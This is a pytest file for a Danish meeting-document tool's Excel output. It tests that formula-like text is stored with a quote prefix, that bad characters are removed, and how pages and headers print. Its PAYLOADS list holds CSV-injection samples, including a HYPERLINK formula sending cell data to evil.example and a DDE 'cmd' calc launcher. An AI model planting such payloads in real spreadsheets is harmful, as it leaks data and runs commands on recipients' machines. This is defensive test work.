"""Excel workbooks: text from data is written as text, never as a formula Excel would run."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from kldocs.app import plan
from kldocs.engine.workbook import HEADER_LIMIT, append_row, print_as_list, print_header, workbook_bytes

PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A2,"Mette")', "=1+1 Partnerskabsmøde", "+45 33 70 33 70",
            "-5 kommuner", "@SUM(A1)", "=cmd|' /C calc'!A0", "'=quoted already")


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


class DescribeAppendRow:
    def it_writes_text_that_looks_like_a_formula_as_text_with_excels_quote_prefix(self):
        book = Workbook()
        append_row(book.active, [*PAYLOADS, "plain", 7, None])
        data = workbook_bytes(book, "kldocs test")
        assert "<f>" not in sheet_xml(data)
        cells = next(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
        assert [c.value for c in cells] == [*PAYLOADS, "plain", 7]
        assert [c.data_type for c in cells] == ["s"] * (len(PAYLOADS) + 1) + ["n"]
        assert [c.quotePrefix for c in cells] == [True] * len(PAYLOADS) + [False, False]

    def it_removes_characters_a_worksheet_cannot_hold_instead_of_failing(self):
        book = Workbook()
        append_row(book.active, ["Mette\x01Søndergaard\x1b"])
        assert book.active["A1"].value == "MetteSøndergaard"


def replace_in(path: Path, old: str, new: str, encoding: str = "utf-8") -> None:
    text = path.read_text(encoding=encoding)
    assert old in text
    path.write_text(text.replace(old, new), encoding=encoding)


class DescribeDataInTheWorkbooksKldocsWrites:
    @pytest.fixture
    def hostile(self, example_copy: Path) -> Path:
        """The example with a contact person, the title and a meeting's place that Excel would run as formulas."""
        replace_in(example_copy / "registrations.csv", "Mette Søndergaard", PAYLOADS[0], encoding="cp1252")
        replace_in(example_copy / "program.yaml", "\ntitle: Kommunalt", "\ntitle: =1+1 Kommunalt")
        return example_copy

    def it_keeps_every_value_as_the_text_the_file_holds(self, hostile):
        lists = {f.relpath: f.make() for f in plan("meetings", hostile).files if f.relpath.endswith(".xlsx")}
        assert lists
        for name, data in lists.items():
            assert "<f>" not in sheet_xml(data), name
        book = openpyxl.load_workbook(io.BytesIO(next(iter(lists.values()))))
        facts = {row[0].value: row[1].value for row in book["Mødet"].iter_rows(min_row=2)}
        assert facts["Partnerskab"].startswith("=1+1 ")
        names = {row[3].value for data in lists.values()
                 for row in openpyxl.load_workbook(io.BytesIO(data))["Deltagere"].iter_rows(min_row=2)}
        assert PAYLOADS[0] in names


class DescribePrintAsList:
    def it_prints_one_page_wide_in_landscape_with_the_headings_on_every_page(self):
        book = Workbook()
        for n in range(200):
            append_row(book.active, [f"Kommune {n}", "Navn", "Titel", "E-mail", "Telefon", "Til stede"])
        print_as_list(book.active)
        sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, "kldocs test"))).active
        assert sheet.page_setup.orientation == "landscape"
        assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.oddFooter.center.text == "Side &P af &N"

    def it_is_how_the_participant_lists_and_the_status_print(self, example_dir, tmp_path):
        from click.testing import CliRunner

        from kldocs.cli import cli

        lists = [f.make() for f in plan("meetings", example_dir).files if f.relpath.endswith(".xlsx")]
        status = tmp_path / "status.xlsx"
        result = CliRunner().invoke(cli, ["status", str(example_dir), "--out", str(tmp_path / "out"), "--date",
                                          "2021-08-20", "--xlsx", str(status)])
        assert result.exit_code == 0, result.output
        assert lists
        for data in [*lists, status.read_bytes()]:
            first = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
            assert first.print_title_rows == "$1:$1" and first.page_setup.orientation == "landscape"

    def it_heads_every_page_with_what_the_list_is_of_its_ampersands_written_as_text(self):
        book = Workbook()
        print_header(book.active, "Seminar – Salen & Co, 10 % af &P")
        sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, "kldocs test"))).active
        assert sheet.oddHeader.center.text == "Seminar – Salen && Co, 10 % af &&P"  # Excel prints one '&' of each
        print_header(book.active, "x" * 300)
        written = book.active.oddHeader.center.text
        assert len("&C" + written) == HEADER_LIMIT and written.endswith("x…")
        print_header(book.active, "x" * 250 + "&" + "y" * 50)  # a cut just after an escaped '&' leaves no code
        written = book.active.oddHeader.center.text
        assert len("&C" + written) <= HEADER_LIMIT and written.endswith("…") and written.count("&") % 2 == 0

    def it_heads_a_participant_list_with_its_meeting(self, example_dir):
        (first, *_) = [f for f in plan("meetings", example_dir).files if f.relpath.endswith(".xlsx")]
        sheet = openpyxl.load_workbook(io.BytesIO(first.make()))["Deltagere"]
        assert sheet.oddHeader.center.text == ("1. partnerskabsmøde – Tirsdag den 14. september 2021 kl. 10.00–15.30, "
                                               "KL-Huset, Weidekampsgade 10, 2300 København S")
